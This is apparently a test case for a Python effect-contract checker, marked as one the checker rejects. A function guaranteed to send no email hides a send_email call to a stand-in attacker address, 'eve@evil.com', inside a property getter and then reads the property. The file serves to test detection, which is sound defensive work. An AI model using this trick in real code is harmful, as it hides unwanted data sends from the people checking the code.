# rejected: reading an attribute of an object may run code
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    class A:
        @property
        def x(self):
            send_email("eve@evil.com", "x")

    y = A().x
